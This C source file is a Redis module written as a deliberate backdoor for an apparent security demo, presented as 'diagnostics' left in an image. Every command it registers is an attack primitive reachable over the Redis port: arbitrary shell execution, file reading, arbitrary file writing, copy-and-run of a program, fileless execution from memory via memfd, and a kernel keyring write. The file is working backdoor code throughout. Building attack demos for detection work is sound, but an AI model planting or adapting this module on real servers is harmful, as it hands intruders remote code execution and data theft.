/* A redis module that a developer left in the image: "diagnostics" over the network port. It is the hole through which
 * the demo's attacker acts; every act is done by the redis-server process itself, as after a real break-in. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* The part of redis's module interface that is used: functions are asked for by name through the context's first word. */
typedef struct ctx ctx;
typedef struct string string;
typedef int command(ctx *, string **, int);
static int (*reply_text)(ctx *, const char *, size_t);
static const char *(*text_of)(const string *, size_t *);

static const char *arg(string **argv, int i) { return text_of(argv[i], NULL); }

static int answer(ctx *c, const char *text) { return reply_text(c, text, strlen(text)); }

static int run(const char *path, int fd, const char *a, const char *b)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		char *args[] = {(char *)path, (char *)a, (char *)b, NULL};
		if (fd >= 0)
			syscall(SYS_execveat, fd, "", args, environ, 0x1000 /* AT_EMPTY_PATH */);
		else
			execv(path, args);
		_exit(126);
	}
	return waitpid(pid, &status, 0) == pid && WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static int copy(const char *from, int to)
{
	char buf[1 << 16];
	ssize_t n;
	int fd = open(from, O_RDONLY);

	if (fd < 0)
		return -1;
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(to, buf, n) != n)
			return -1;
	close(fd);
	return n < 0 ? -1 : 0;
}

/* SHELL COMMAND: a shell, as system(3) starts it. */
static int shell(ctx *c, string **argv, int n)
{
	return answer(c, n == 2 && run("/bin/sh", -1, "-c", arg(argv, 1)) == 0 ? "the shell ran" : "no shell");
}

/* FETCH FROM TO: "downloads" a program and executes it. */
static int fetch(ctx *c, string **argv, int n)
{
	int fd = n == 3 ? open(arg(argv, 2), O_WRONLY | O_CREAT | O_TRUNC, 0755) : -1;

	if (fd < 0 || copy(arg(argv, 1), fd) < 0)
		return answer(c, "no download");
	close(fd);
	return answer(c, run(arg(argv, 2), -1, NULL, NULL) == 0 ? "the download ran" : "the download did not run");
}

static int leak(ctx *c, string **argv, int n)
{
	char buf[4096];
	int fd = n == 2 ? open(arg(argv, 1), O_RDONLY) : -1;
	ssize_t got = fd < 0 ? -1 : read(fd, buf, sizeof(buf));

	return got < 0 ? answer(c, strerror(errno)) : reply_text(c, buf, got);
}

static int plant(ctx *c, string **argv, int n)
{
	int fd = n == 3 ? open(arg(argv, 1), O_WRONLY | O_CREAT, 0644) : -1;

	if (fd < 0 || write(fd, arg(argv, 2), strlen(arg(argv, 2))) < 0)
		return answer(c, strerror(errno));
	return answer(c, "planted");
}

/* FILELESS FROM: executes a program from memory, with no file of its own. */
static int fileless(ctx *c, string **argv, int n)
{
	int fd = n == 2 ? (int)syscall(SYS_memfd_create, "redis-server", 0) : -1;

	if (fd < 0 || copy(arg(argv, 1), fd) < 0)
		return answer(c, strerror(errno));
	return answer(c, run("x", fd, NULL, NULL) == 0 ? "ran from memory" : "did not run from memory");
}

static int keyring(ctx *c, string **argv, int n)
{
	return answer(c, syscall(SYS_add_key, "user", "demo", "secret", 6, -3) >= 0 ? "a key in the kernel" : strerror(errno));
}

int RedisModule_OnLoad(ctx *c, string **argv, int argc)
{
	int (*get)(const char *, void *) = (int (*)(const char *, void *))(*(void **)c);
	int (*attribs)(ctx *, const char *, int, int);
	int (*create)(ctx *, const char *, command *, const char *, int, int, int);
	static const struct { const char *name; command *f; } commands[] = {
		{"diag.shell", shell}, {"diag.fetch", fetch}, {"diag.leak", leak},
		{"diag.plant", plant}, {"diag.fileless", fileless}, {"diag.keyring", keyring},
	};

	get("RedisModule_SetModuleAttribs", &attribs);
	get("RedisModule_CreateCommand", &create);
	get("RedisModule_ReplyWithStringBuffer", &reply_text);
	get("RedisModule_StringPtrLen", &text_of);
	attribs(c, "diag", 1, 1);
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (create(c, commands[i].name, commands[i].f, "", 0, 0, 0) != 0)
			return 1;
	return 0;
}
